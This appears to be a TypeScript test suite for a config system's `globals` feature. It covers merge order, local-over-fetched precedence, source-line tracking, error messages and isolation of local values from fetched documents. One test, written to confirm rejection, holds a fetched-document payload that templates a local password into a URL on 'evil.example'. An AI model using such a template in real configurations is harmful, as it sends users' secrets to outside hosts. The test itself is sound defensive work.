// `globals`: the values that a service gets from them, who wins, where each was written, and what a fetched document has no
// part in.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { TreeNode } from '../../../config/document/node.ts'
import { dataOf, placeOf } from '../../../config/document/node.ts'
import { readWholeConfig } from '../../../config/read-config.ts'
import { expectCodeAsync } from '../../support/assertions/expect-code.ts'
import { readFiles, writeConfigFiles } from '../../support/machine/config-files.ts'

type Context = Parameters<typeof writeConfigFiles>[0]

const WEB = 'https://x.example/shared.yaml'

async function rootOf(t: Context, local: string, theirs = 'name: theirs\n'): Promise<TreeNode> {
  const cwd = await writeConfigFiles(t, { 'octo.yaml': `include: [{url: "${WEB}", offers: [configs.web]}]\n${local}` })
  const whole = await readWholeConfig(undefined, { cwd, env: {}, fetchText: async () => theirs })
  return whole.effective().root ?? assert.fail('nothing')
}

async function configsOf(t: Context, local: string, theirs?: string): Promise<unknown> {
  const data = dataOf(await rootOf(t, local, theirs)) as { configs?: unknown; service?: unknown }
  return data.configs ?? data.service
}

const named = (settings: string) => `services: {web: {octocompose: {config: {${settings}}}}}\n`

const ROWS: readonly (readonly [what: string, local: string, configs: unknown])[] = [
  [
    'the set that it names, below its own values',
    `globals: {g: {a: 1, deep: {x: 1, y: 1}, list: [1]}}\nconfigs: {web: {a: 2, deep: {y: 2}, list: [2]}}\n${named('globals: g')}`,
    { web: { a: 2, deep: { y: 2, x: 1 }, list: [1, 2] } },
  ],
  ['the set alone where it has no values', `globals: {g: {a: 1}}\n${named('globals: g')}`, { web: { a: 1 } }],
  [
    'nothing of sets that it does not name',
    `globals: {g: {a: 1}}\nconfigs: {web: {b: 1}}\n${named('file: json')}`,
    { web: { b: 1 } },
  ],
  [
    'nothing with `noGlobals`',
    `globals: {g: {a: 1}}\nconfigs: {web: {b: 1}}\n${named('globals: g, noGlobals: true')}`,
    { web: { b: 1 } },
  ],
  [
    'the values of `operator.globals`, below the set that it names',
    `operator: {globals: {a: 1, b: 1, c: 1}}\nglobals: {g: {b: 2, c: 2}}\nconfigs: {web: {c: 3}}\n${named('globals: g')}`,
    { web: { c: 3, b: 2, a: 1 } },
  ],
  [
    'the values of `operator.globals` in format v1, where they are called `service`',
    'operator: {globals: {a: 1}, services: {web: {}, db: {config: {noGlobals: true}}}}\nservice: {web: {b: 1}, db: {b: 1}}\n',
    { web: { b: 1, a: 1 }, db: { b: 1 } },
  ],
  [
    'the set that the settings of format v1 name',
    'globals: {g: {a: 1}}\noperator: {services: {web: {config: {globals: g}}}}\n',
    { web: { a: 1 } },
  ],
]
for (const [what, local, configs] of ROWS)
  test(`a service gets ${what}`, async (t) => {
    assert.deepEqual(await configsOf(t, local), configs)
  })

test('values of format v1 stay where they are written, beside `configs` of another service', async (t) => {
  const text = 'operator: {globals: {a: 1}, services: {web: {}}}\nconfigs: {db: {c: 1}}\nservice: {web: {b: 1}}\n'
  const { configs, service } = dataOf(await rootOf(t, text)) as Record<string, unknown>
  assert.deepEqual([configs, service], [{ db: { c: 1 } }, { web: { b: 1, a: 1 } }])
})

test('every value keeps the line where it was written', async (t) => {
  const root = await rootOf(t, `globals:\n  g:\n    a: 1\n    b: 1\nconfigs:\n  web:\n    b: 2\n${named('globals: g')}`)
  const web = ['configs', 'web'].reduce<TreeNode | undefined>(
    (node, key) => (node?.kind === 'map' ? node.entries.get(key) : undefined),
    root,
  )
  assert.ok(web?.kind === 'map')
  const lines = ['a', 'b'].map((key) => placeOf(web.entries.get(key) ?? assert.fail(key)).line)
  assert.deepEqual(lines, [4, 8])
})

test('templates see the values of sets as those of the service', async (t) => {
  const text = `globals: {g: {port: 1}}\nservices: {web: {octocompose: {config: {globals: g}, health: [{tool: c, args: {x: "{{.configs.web.port}}"}}]}}}\n`
  const { services } = await readFiles(t, { 'octo.yaml': text })
  assert.deepEqual(services[0]?.checks.health[0]?.arguments.value, { x: 1 })
})

test('local values count before fetched ones, in sets too', async (t) => {
  const theirs = 'globals: {g: {a: 9, b: 9}}\nconfigs: {web: {a: 8, c: 8}}\noperator: {globals: {a: 7, d: 7}}\n'
  assert.deepEqual(await configsOf(t, `globals: {g: {a: 1}}\n${named('globals: g')}`, theirs), {
    web: { a: 1, c: 8, b: 9, d: 7 },
  })
})

test('a fetched document neither takes a local set for a service nor keeps one from it', async (t) => {
  const theirs = named('globals: mine')
  const error = await expectCodeAsync('CONFIG_INVALID', () =>
    configsOf(t, 'globals: {mine: {secret: hunter2}}\n', theirs),
  )
  assert.match(error.message, /shared\.yaml` line 1: names `mine` of `globals`, which is no set of values there/)
  const both = 'globals: {mine: {theirs: 1}}\n'
  assert.deepEqual(await configsOf(t, 'globals: {mine: {secret: hunter2}}\n', `${both}${theirs}`), {
    web: { theirs: 1 },
  })
  const off = await configsOf(t, 'operator: {globals: {a: 1}}\nservices: {web: {image: x}}\n', named('noGlobals: true'))
  assert.deepEqual(off, { web: { a: 1 } })
})

test('a value is offered by the place where it was written, and not by the one where it stands now', async (t) => {
  const theirs = 'services: {web: {health: [{tool: c, args: ["https://evil.example/{{.configs.web.password}}"]}]}}\n'
  for (const [local, path] of [
    [`globals: {g: {password: hunter2}}\nconfigs: {web: {a: 1}}\n${named('globals: g')}`, 'globals.g.password'],
    ['operator: {globals: {password: hunter2}}\nservices: {web: {image: x}}\n', 'operator.globals.password'],
  ] as const) {
    const error = await expectCodeAsync('CONFIG_INVALID', () => configsOf(t, local, theirs))
    assert.ok(error.message.includes(`may not read \`${path}\``), error.message)
    assert.doesNotMatch(JSON.stringify(error), /hunter2/)
  }
})

test('a set that is not there, and one that is no map, are errors with the nearest name', async (t) => {
  const rows: readonly (readonly [string, RegExp])[] = [
    [
      `globals: {base: {a: 1}}\n${named('globals: bse')}`,
      /octo\.yaml` line 3: names `bse` of `globals`.*did you mean `base`\?/,
    ],
    [`globals: {g: 1}\n${named('globals: g')}`, /no set of values/],
    [`globals: {g: {}}\n${named('globals: [g]')}`, /`globals` of a service is the name of a set/],
  ]
  for (const [local, problem] of rows) {
    const error = await expectCodeAsync('CONFIG_INVALID', () => configsOf(t, local))
    assert.match(error.message, problem)
  }
})

test('a set is named for nothing where the config has none at all, and a warning says so', async (t) => {
  const { warnings } = await readFiles(t, { 'octo.yaml': named('globals: g') })
  assert.match(warnings[0]?.message ?? '', /names `g` of `globals`, which the config does not have/)
})

test('a service that says `noTemplate` is left as it is, and a fetched document does not say so for a local one', async (t) => {
  const health = (settings: string) =>
    `services: {web: {command: ["{{.Names}}"], octocompose: {config: {${settings}}, health: [{tool: c, args: {x: "{{.Names}}"}}]}}}\n`
  const text = health('noTemplate: true')
  const { services } = await readFiles(t, { 'octo.yaml': text })
  assert.deepEqual(services[0]?.checks.health[0]?.arguments.value, { x: '{{.Names}}' })
  const data = dataOf(await rootOf(t, text)) as { services: { web: { command: unknown } } }
  assert.deepEqual(data.services.web.command, ['{{.Names}}'])
  const error = await expectCodeAsync('CONFIG_INVALID', () =>
    rootOf(t, health('file: json'), named('noTemplate: true')),
  )
  assert.match(error.message, /names `Names`/)
})
